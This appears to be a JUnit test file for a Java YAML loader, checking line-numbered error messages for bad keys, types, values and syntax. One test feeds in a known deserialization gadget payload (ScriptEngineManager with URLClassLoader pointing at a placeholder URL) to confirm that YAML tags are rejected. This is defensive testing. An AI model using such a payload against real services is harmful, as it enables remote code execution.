package org.mark1.io;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

class YamlDocumentTest {

    enum Colour { RED, GREEN }

    record Inner(int count, Colour colour) {
        Inner {
            InvalidValue.requireRange("count", count, 1, 10);
        }
    }

    record Outer(String name, List<Inner> items) {
    }

    private static InputError failure(String yaml) {
        YamlDocument doc = YamlDocument.parse("t.yaml", yaml);
        return assertThrows(InputError.class, () -> doc.bind("", doc.root(), Outer.class));
    }

    @Test
    void bindsAWellFormedFile() {
        YamlDocument doc = YamlDocument.parse("t.yaml", "name: a\nitems:\n  - count: 3\n    colour: RED\n");
        Outer o = doc.bind("", doc.root(), Outer.class);
        assertEquals(new Outer("a", List.of(new Inner(3, Colour.RED))), o);
    }

    @Test
    void unknownKeyNamesLineAndAllowedKeys() {
        InputError e = failure("name: a\nitems:\n  - count: 3\n    colur: RED\n");
        assertEquals("t.yaml:4:5: items[0].colur: unknown key; allowed keys here: colour, count", e.getMessage());
    }

    @Test
    void wrongTypeNamesTheExpectedType() {
        InputError e = failure("name: a\nitems:\n  - count: three\n");
        assertTrue(e.getMessage().startsWith("t.yaml:3:5: items[0].count:"), e.getMessage());
        assertTrue(e.getMessage().contains("a whole number"), e.getMessage());
    }

    @Test
    void fractionIsNotSilentlyRounded() {
        InputError e = failure("name: a\nitems:\n  - count: 2.5\n");
        assertTrue(e.getMessage().startsWith("t.yaml:3:5: items[0].count"), e.getMessage());
    }

    @Test
    void impossibleValuePointsAtItsLine() {
        InputError e = failure("name: a\nitems:\n  - colour: GREEN\n    count: 0\n");
        assertEquals("t.yaml:4:5: items[0].count: 0 is impossible; allowed: 1 to 10", e.getMessage());
    }

    @Test
    void badEnumListsAllowedValues() {
        InputError e = failure("name: a\nitems:\n  - count: 1\n    colour: BLUE\n");
        assertTrue(e.getMessage().contains("one of: RED, GREEN"), e.getMessage());
        assertTrue(e.getMessage().startsWith("t.yaml:4:5:"), e.getMessage());
    }

    @Test
    void yamlTagsAreRefused() {
        InputError e = assertThrows(InputError.class, () -> YamlDocument.parse("t.yaml",
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"));
        assertTrue(e.getMessage().startsWith("t.yaml:1:"), e.getMessage());
        assertTrue(e.getMessage().contains("tag"), e.getMessage());
    }

    @Test
    void duplicateKeysAreRefused() {
        InputError e = assertThrows(InputError.class, () -> YamlDocument.parse("t.yaml", "name: a\nname: b\n"));
        assertTrue(e.getMessage().startsWith("t.yaml:2:"), e.getMessage());
    }

    @Test
    void syntaxErrorNamesItsLine() {
        InputError e = assertThrows(InputError.class, () -> YamlDocument.parse("t.yaml", "name: a\nitems: [1, 2\n"));
        assertTrue(e.getMessage().startsWith("t.yaml:"), e.getMessage());
        assertTrue(e.getMessage().contains("not valid YAML"), e.getMessage());
    }

    @Test
    void missingFileIsAnInputError() {
        InputError e = assertThrows(InputError.class, () -> YamlDocument.read(java.nio.file.Path.of("/no/such.yaml")));
        assertEquals("/no/such.yaml: no such file; check the path", e.getMessage());
    }
}
